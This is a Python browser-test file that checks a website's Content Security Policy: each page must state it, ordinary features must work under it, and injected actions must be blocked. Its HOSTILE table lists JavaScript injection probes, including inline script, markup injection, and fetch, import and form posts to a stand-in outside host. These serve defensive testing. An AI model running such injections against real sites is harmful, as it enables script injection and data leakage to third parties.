"""The policy that each page states, and that the server sends: everything works under it, and nothing else does.

Every other test of a page in the browser fails when something breaks the policy (`conftest.opened`).
"""

import re

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from alongside.policy import policy_of
from tests.browser.policy import watched
from tests.browser.receiver import Receiver
from tests.browser.test_booklet import BOTH, SVG, choose_logo, downloaded, printed
from tests.browser.test_enquiry import fill as fill_enquiry
from tests.browser.test_planner import set_plan
from tests.browser.test_sheet import choose, export
from tests.browser.test_sheet import fill as fill_sheet
from tests.guide import owner

STATED = "document.querySelector('meta[http-equiv=Content-Security-Policy]').content"
KINDS = {
    "": "home",
    "library/": "library",
    "worksheets/team-health-check/": "sheet",
    "checklists/meeting-leader/": "sheet",
    "workshops/team-partnership-review/": "workshop",
    "articles/mentoring/": "page",
    "models/straight-talk/": "page",
    "principles/everyones-success/": "page",
    "paths/new-leader/": "page",
    "situations/": "page",
    "glossary/": "page",
    "sources/": "page",
    "a-z/": "letters",
    "questions/": "questions",
    "enquiries/": "enquiry",
    "booklet/": "booklet",
    "gone/": "page",
}


@pytest.mark.parametrize("address", KINDS)
def test_each_page_states_its_policy_before_it_asks_for_anything(page: Page, site: str, address: str) -> None:
    page.goto(site + address)
    assert page.evaluate(STATED) == policy_of(owner(), KINDS[address])
    assert page.evaluate("document.head.querySelector('meta[http-equiv], link, script').localName") == "meta"
    page.locator("#search-field").fill("straight talk")
    expect(page.locator(".hit").first).to_be_visible()
    page.locator("[data-palette]").click()


def test_a_sheet_is_filled_in_saved_opened_and_printed(page: Page, site: str) -> None:
    page.goto(site + "worksheets/team-health-check/")
    fill_sheet(page)
    text = export(page)
    choose(page, str(text).replace("'", '"'))
    page.evaluate("window.print = () => {}")
    for button in page.get_by_role("button", name=re.compile("Print")).all():
        button.click()
    page.locator("[data-keep]").first.click()
    page.pdf()


def test_a_session_is_planned_and_downloaded(page: Page, site: str) -> None:
    page.goto(site + "workshops/team-partnership-review/")
    set_plan(page)
    with page.expect_download(timeout=30_000):
        page.locator("[data-planner-paper]").first.click()


def test_a_booklet_with_a_logo_is_printed_and_downloaded(page: Page, site: str) -> None:
    page.goto(site + BOTH)
    choose_logo(page, "logo.svg", "image/svg+xml", SVG)
    expect(page.locator("[data-booklet-logo-chosen] img")).to_be_visible()
    assert downloaded(page).startswith(b"%PDF")
    assert len(printed(page)) > 2


def test_the_library_is_narrowed_and_a_question_drawn(page: Page, site: str) -> None:
    page.goto(site + "library/")
    page.locator("#filters select").first.select_option(index=1)
    page.goto(site + "questions/")
    page.get_by_role("button", name="Draw a question").click()
    expect(page.locator(".draw__question")).to_be_visible()


def test_an_enquiry_goes_by_mail(page: Page, site: str) -> None:
    page.goto(site + "enquiries/")
    fill_enquiry(page)
    page.locator("[data-send]").click()
    expect(page.locator("[data-mailto]")).to_be_visible()


@pytest.mark.parametrize("scripts", [True, False])
def test_an_enquiry_goes_to_the_endpoint(browser: Browser, endpoint_site: tuple[str, Receiver], scripts: bool) -> None:
    context = browser.new_context(java_script_enabled=scripts)
    page, (address, receiver) = context.new_page(), endpoint_site
    broken = watched(page)
    page.goto(address + "enquiries/")
    fill_enquiry(page)
    page.locator("[data-send], #enquiry [type=submit]").first.click()
    expect(page.locator("[data-panel=sent]" if scripts else "h1")).to_be_visible()
    context.close()
    assert len(receiver.posted) == 1 and broken == []


HOSTILE = {
    "a script in the page": "document.body.append(Object.assign(document.createElement('script'), {text: '1'}))",
    "a text that becomes markup": "document.body.innerHTML = '<b>x</b>'",
    "a handler in markup": "document.body.setAttribute('onclick', 'x')",
    "a text that is run": "setTimeout('1')",
    "another host's script": "import('https://elsewhere.example/x.js').catch(() => {})",
    "another host's image": "new Image().src = 'https://elsewhere.example/x.png'",
    "a style in the page": "document.head.append(Object.assign(document.createElement('style'), {textContent: 'a{}'}))",
    "what is sent elsewhere": "fetch('https://elsewhere.example/').catch(() => {})",
    "a form that goes elsewhere": (
        "const form = document.body.appendChild(document.createElement('form'));"
        "form.action = 'https://elsewhere.example/'; form.submit()"
    ),
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: '/'}))",
    "a base": "document.head.append(Object.assign(document.createElement('base'), {href: 'https://elsewhere.example'}))",
    "a worker": "try { new Worker('/x.js') } catch {}",
    "another policy of types": "try { trustedTypes.createPolicy('mine', {}) } catch {}",
}


@pytest.mark.parametrize("deed", HOSTILE)
@pytest.mark.parametrize("address", ["", "enquiries/", "booklet/"])
def test_whatever_else_is_tried_is_refused(browser: Browser, site: str, address: str, deed: str) -> None:
    context: BrowserContext = browser.new_context()
    page = context.new_page()
    broken = watched(page)
    page.goto(site + address)
    page.evaluate(f"() => {{ try {{ {HOSTILE[deed]} }} catch {{ }} }}")
    page.wait_for_timeout(100)
    context.close()
    assert broken
